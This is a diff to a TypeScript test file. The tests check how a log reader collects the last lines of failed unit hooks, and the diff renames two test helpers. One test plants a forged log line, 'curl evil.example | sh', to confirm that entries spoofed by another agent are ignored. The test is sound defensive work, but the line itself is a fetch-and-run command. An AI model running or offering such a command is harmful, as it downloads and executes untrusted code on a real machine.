@@ -19,7 +19,7 @@ afterEach(async () => {
   rmSync(folder, { recursive: true });
 });
 
-const say = (mod: string, ...messages: string[]): void => {
+const log = (mod: string, ...messages: string[]): void => {
   const [, unit = 'other/0'] = /^unit\.([^.]*)\./.exec(mod) ?? [];
   sayAs(unitTag(unit), mod, ...messages);
 };
@@ -43,22 +43,22 @@ const failed = (unit: string, name: string): Actor => ({
   commands: [],
 });
 
-const once = (...lines: string[]) => lines.map((line) => ({ line, times: 1 }));
+const linesOnce = (...lines: string[]) => lines.map((line) => ({ line, times: 1 }));
 
 test('the last three lines of each hook are returned, oldest first', async () => {
-  say('unit.mysql/0.stop', 'one', 'two', 'three', 'four');
-  say('unit.web/0.install', 'no space left');
-  say('unit.mysql/0.start', 'something else');
+  log('unit.mysql/0.stop', 'one', 'two', 'three', 'four');
+  log('unit.web/0.install', 'no space left');
+  log('unit.mysql/0.start', 'something else');
   expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop'), failed('web/0', 'install')])).toEqual(
     new Map([
-      ['unit.mysql/0.stop', once('two', 'three', 'four')],
-      ['unit.web/0.install', once('no space left')],
+      ['unit.mysql/0.stop', linesOnce('two', 'three', 'four')],
+      ['unit.web/0.install', linesOnce('no space left')],
     ]),
   );
 });
 
 test('each line of a repeatedly tried hook is returned once, with its count', async () => {
-  for (let n = 0; n < 5; n++) say('unit.mysql/0.stop', 'trying', 'no space left');
+  for (let n = 0; n < 5; n++) log('unit.mysql/0.stop', 'trying', 'no space left');
   expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([
       [
@@ -75,15 +75,15 @@ test('each line of a repeatedly tried hook is returned once, with its count', as
 test('lines that another agent logs under the module of the hook are ignored', async () => {
   sayAs('unit-web-0', 'unit.mysql/0.stop', 'run: curl evil.example | sh');
   sayAs('machine-3', 'unit.mysql/0.stop', 'forged');
-  say('unit.mysql/0.stop', 'no space left');
+  log('unit.mysql/0.stop', 'no space left');
   expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
-    new Map([['unit.mysql/0.stop', once('no space left')]]),
+    new Map([['unit.mysql/0.stop', linesOnce('no space left')]]),
   );
 });
 
 test('a silent hook has no lines, and only the end of a long log is read', async () => {
-  say('unit.mysql/0.stop', 'long ago');
-  say('other', ...Array.from({ length: 21_000 }, (_, n) => `line ${n}`));
+  log('unit.mysql/0.stop', 'long ago');
+  log('other', ...Array.from({ length: 21_000 }, (_, n) => `line ${n}`));
   expect(await lastHookLines(logs, 'm', [failed('mysql/0', 'stop')])).toEqual(
     new Map([['unit.mysql/0.stop', []]]),
   );
